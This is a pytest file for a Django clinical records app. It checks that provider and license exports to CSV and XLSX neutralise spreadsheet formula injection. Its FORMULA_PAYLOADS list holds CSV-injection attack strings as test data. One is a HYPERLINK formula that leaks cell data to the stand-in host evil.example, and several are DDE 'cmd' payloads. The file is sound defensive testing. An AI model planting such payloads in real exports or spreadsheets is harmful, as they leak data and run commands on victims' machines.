"""Spreadsheet exports never carry a formula: every exportable resource, every column, CSV and XLSX.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice or Google Sheets (or becomes one once they strip the first character). The
export prefixes such cells with ``'`` (OWASP's CSV injection advice) and leaves every other
value exactly as stored: a hyphen inside a license number, a name or a note is not a formula.
Files are read back with the ``csv`` module and openpyxl, as a spreadsheet would read them.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import NoReverseMatch, reverse

from clinical.actions import licenses as license_actions
from clinical.actions import providers as provider_actions
from clinical.imports.checks import check_license_file
from clinical.imports.resources import FORMULA_PREFIXES
from clinical.models import LicenseStatus, Provider, ProviderLicense
from core.audit import Actor
from tests.builders import SYSTEM, make_provider

# What an attacker (or an unlucky clerk) stores: one value per prefix a spreadsheet runs.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# Legitimate values that merely contain those characters: exported unchanged.
PLAIN_VALUES = ("A-123", "CA-000123", "Smith-Jones", "O'Brien", "Renewed 2026-01-02 - see file", "Zoë+1", "x@y")
FORMATS = {"csv": "0", "xlsx": "1"}


def _export(client, model: str, query: str, file_format: str):
    url = reverse(f"ops:clinical_{model}_export") + query
    response = client.post(url, {"format": FORMATS[file_format], "resource": "0"})
    assert response.status_code == 200, response.status_code
    return _rows(response.content, file_format)


def _rows(content: bytes, file_format: str) -> list[dict]:
    """Return the exported rows as a spreadsheet reads them; fail on any formula cell."""
    if file_format == "csv":
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, (cell.value for cell in line), strict=True)) for line in sheet.iter_rows(min_row=2)]


def _neutral(value: str, file_format: str = "csv") -> str:
    # XML turns a stored carriage return into a line feed when the sheet is read: not a formula either way.
    return "'" + (value.replace("\r", "\n") if file_format == "xlsx" else value)


def _provider_with(text: str, *, username: str | None = None) -> Provider:
    """Create a provider whose names, e-mail and license carry ``text``, verified by a user named after it."""
    provider = make_provider(first_name=text, last_name=text, states=("CA",))
    provider.email = f"{text[0]}evil@example.test" if text[0] in "=+-" else provider.email  # a valid address
    provider_actions.save_provider(provider, actor=SYSTEM)
    license = provider.licenses.get()
    license.license_number, license.notes = text[:40], text
    license_actions.save_license(license, actor=SYSTEM, reason="formula test")
    if username:
        from django.contrib.auth import get_user_model

        verifier = get_user_model().objects.create_user(username, is_staff=True)
        license_actions.verify_license(license, actor=Actor.staff(verifier))
    return provider


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("payload", FORMULA_PAYLOADS, ids=range(len(FORMULA_PAYLOADS)))
def test_it_neutralises_a_formula_in_every_license_column(client, lead, payload, file_format):
    provider = _provider_with(payload, username="-admin")  # Django usernames may start with - + or @
    client.force_login(lead)
    [row] = _export(client, "providerlicense", f"?provider__id__exact={provider.pk}", file_format)
    assert row["License number"] == _neutral(payload[:40], file_format)
    assert row["Notes"] == _neutral(payload, file_format)
    assert row["Provider"] == _neutral(f"{payload} {payload}", file_format)
    assert row["Verified by"] == _neutral("-admin")
    assert not [(column, value) for column, value in row.items() if str(value or "").startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("payload", FORMULA_PAYLOADS, ids=range(len(FORMULA_PAYLOADS)))
def test_it_neutralises_a_formula_in_every_provider_column(client, lead, payload, file_format):
    provider = _provider_with(payload)
    client.force_login(lead)
    [row] = _export(client, "provider", f"?npi={provider.npi}", file_format)
    assert row["First name"] == row["Last name"] == _neutral(payload, file_format)
    assert row["Phone"] == _neutral(provider.phone)  # E.164 starts with +: text, not a number or a formula
    if payload[0] in "=+-":
        assert row["Email"] == _neutral(provider.email)
    assert not [(column, value) for column, value in row.items() if str(value or "").startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("value", PLAIN_VALUES)
def test_it_exports_values_with_a_hyphen_or_sign_inside_unchanged(client, lead, value, file_format):
    provider = _provider_with(value)
    client.force_login(lead)
    [row] = _export(client, "providerlicense", f"?provider__id__exact={provider.pk}", file_format)
    assert (row["License number"], row["Notes"], row["Provider"]) == (value[:40], value, f"{value} {value}")
    issued = provider.licenses.get().issued_on
    assert (
        row["Issued on"] == (issued.isoformat() if file_format == "csv" else issued)
        or row["Issued on"].date() == issued
    )


def test_it_imports_its_own_neutralised_export_as_unchanged(client, lead):
    provider = _provider_with(FORMULA_PAYLOADS[0])
    client.force_login(lead)
    response = client.post(
        reverse("ops:clinical_providerlicense_export") + f"?provider__id__exact={provider.pk}",
        {"format": FORMATS["csv"], "resource": "0"},
    )
    preview = check_license_file(response.content, "export.csv", max_rows=10)
    assert preview.counts == {"new": 0, "updated": 0, "unchanged": 1, "error": 0}, preview.results


def test_it_leaves_the_stored_value_as_typed(db):
    provider = _provider_with(FORMULA_PAYLOADS[3])
    assert ProviderLicense.objects.get(provider=provider).notes == FORMULA_PAYLOADS[3]
    assert ProviderLicense.objects.get(provider=provider).status == LicenseStatus.ACTIVE


def test_it_offers_no_export_of_the_access_log_or_other_phi_lists():
    for model in ("support_accesslog", "clinical_patient", "clinical_visit", "support_supportcase"):
        with pytest.raises(NoReverseMatch):
            reverse(f"ops:{model}_export")
